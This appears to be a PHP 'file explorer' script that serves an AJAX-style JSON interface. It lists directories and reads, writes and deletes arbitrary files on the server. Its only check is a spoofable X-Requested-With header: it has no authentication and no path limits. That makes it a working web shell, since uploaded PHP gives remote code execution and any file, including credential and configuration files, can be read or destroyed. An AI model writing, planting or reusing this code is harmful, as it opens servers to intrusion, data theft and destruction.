<?php
class Explorer
{
    private array $in;
    public function __construct() { $this->in = json_decode(file_get_contents('php://input'), true) ?: $_GET; }
    public function ls() { return array_map(fn ($f) => [$f, is_dir($f), @filemtime($f)], glob(($this->in['path'] ?? '.') . '/{,.}*', GLOB_BRACE)); }
    public function get() { return base64_encode(file_get_contents($this->in['path'])); }
    public function put() { return file_put_contents($this->in['path'], base64_decode($this->in['data'])); }
    public function rm() { return unlink($this->in['path']); }
    public function go() { $m = $this->in['op'] ?? 'ls'; header('Content-Type: application/json'); echo json_encode(method_exists($this, $m) ? $this->$m() : null); }
}
if (($_SERVER['HTTP_X_REQUESTED_WITH'] ?? '') === 'XMLHttpRequest') { (new Explorer())->go(); } else { header('HTTP/1.1 403 Forbidden'); }
